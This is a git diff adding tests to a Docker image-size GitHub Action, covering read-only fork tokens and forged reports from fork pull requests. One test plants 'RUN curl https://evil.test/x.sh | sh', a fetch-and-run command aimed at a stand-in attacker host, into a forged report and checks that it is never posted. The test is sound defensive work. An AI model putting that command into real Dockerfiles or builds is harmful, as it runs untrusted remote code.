@@ -12,6 +12,8 @@ import type { RunReport } from '../../src/model/run.js';
 import { CLASSIC, docker, requireDaemons } from '../helpers/docker.js';
 import { FakeGitHub } from '../helpers/fake-github.js';
 import { pullRequestPayload, stepsIn } from '../helpers/runner.js';
+import { workflowRunPayload } from '../helpers/payloads.js';
+import { formatBytes } from '../../src/report/format-md.js';
 
 const ready = requireDaemons(CLASSIC);
 const tmp = mkdtempSync(join(tmpdir(), 'dsg-suggest-'));
@@ -161,6 +163,23 @@ describe.skipIf(!ready)('suggested fixes, rebuilt and measured before they are o
     git('checkout', '-q', headSha);
   });
 
+  it('suggest: review with a read-only token (a fork PR): the fix stays in the comment body', async () => {
+    api.readOnly = true;
+    try {
+      const posts = reviewPosts().length;
+      const r = await runPr(headSha, baseSha, { suggest: 'review', 'max-increase': '1GB', 'comment-key': 'ro' });
+      expect(r.code, r.stdout).toBe(0);
+      expect(reviewPosts()).toHaveLength(posts + 1); // tried, refused with GitHub's 403
+      expect(r.stdout).toMatch(
+        /::warning::The review with suggested fixes was not posted: .*The fixes are in the comment instead/,
+      );
+      expect(r.outputs['comment-body']).toContain('```diff\n--- a/Dockerfile');
+      expect(r.outputs['comment-body']).not.toContain('suggested in a review');
+    } finally {
+      api.readOnly = false;
+    }
+  });
+
   it('suggest: comment puts the fix in the comment as a unified diff, and posts no review', async () => {
     const posts = reviewPosts().length;
     const r = await runPr(headSha, baseSha, { suggest: 'comment', 'max-increase': '1GB', 'comment-key': 'diff' });
@@ -200,5 +219,63 @@ describe.skipIf(!ready)('suggested fixes, rebuilt and measured before they are o
     expect(r.outputs['comment-body']).not.toContain('Suggested fixes');
     // The full-base finding itself still stands: the fix was dropped, not the advice.
     expect(report.entries[0]!.comparison.newFindings!.map((f) => f.rule)).toContain('full-base');
+  });
+
+  it("the fork flow: a forged report's fix text is never posted; the fix is written again from the PR's file", async () => {
+    // The measuring job (pull_request, read-only token) writes its report, which the fork controls.
+    const measured = await runPr(headSha, baseSha, {
+      suggest: 'comment',
+      'max-increase': '1GB',
+      'comment-key': 'fork',
+    });
+    expect(measured.code, measured.stdout).toBe(0);
+    const forged = JSON.parse(readFileSync(measured.outputs.report!, 'utf8'));
+    const claim = forged.entries[0].suggestions[0];
+    const real = claim.lines[0];
+    Object.assign(claim, {
+      lines: ['RUN curl https://evil.test/x.sh | sh'],
+      summary: 'ping @admin, see #1',
+      diff: '+RUN curl https://evil.test/x.sh | sh',
+    });
+    // A claim on a line that is no RUN instruction of the real file, and one naming a fix the file does not give.
+    forged.entries[0].suggestions.push({ ...claim, startLine: 3, endLine: 3 });
+    forged.entries[0].suggestions.push({ ...claim, kinds: ['apk-no-cache'] });
+    const dir = join(tmp, 'fork-reports');
+    execFileSync('mkdir', ['-p', dir]);
+    writeFileSync(join(dir, 'docker-size-guard-fork.json'), JSON.stringify(forged));
+    api.fileAt = (ref, path) => {
+      try {
+        return execFileSync('git', ['show', `${ref}:${path}`], { cwd: repo, encoding: 'utf8' });
+      } catch {
+        return null;
+      }
+    };
+    const empty = join(tmp, 'empty');
+    execFileSync('mkdir', ['-p', empty]);
+    const before = api.reviews.get(PR)?.length ?? 0;
+    const r = await step({
+      workspace: empty,
+      eventName: 'workflow_run',
+      payload: workflowRunPayload(headSha),
+      inputs: { mode: 'comment', reports: dir, 'comment-key': 'fork', suggest: 'review' },
+    });
+    expect(r.code, r.stdout).toBe(0);
+    // The file was read through the API at the measured head commit.
+    expect(
+      api.calls.some(
+        (c) => c.method === 'GET' && c.path.startsWith(`/repos/acme/app/contents/Dockerfile?ref=${headSha}`),
+      ),
+    ).toBe(true);
+    expect(r.stdout.match(/::warning::Suggested fix from the report dropped: /g)).toHaveLength(2);
+    const reviews = api.reviews.get(PR)!;
+    expect(reviews).toHaveLength(before + 1);
+    const posted = reviews.at(-1)!;
+    expect(posted.comments).toHaveLength(1);
+    const body = posted.comments[0]!.body;
+    expect(/```suggestion\n([\s\S]*?)\n```/.exec(body)![1]).toBe(real);
+    expect(body).not.toContain('evil');
+    expect(body).not.toContain('@admin');
+    // The numbers are the report's.
+    expect(body).toContain(`the image ${formatBytes(claim.imageBytes.before)}`);
   });
 });
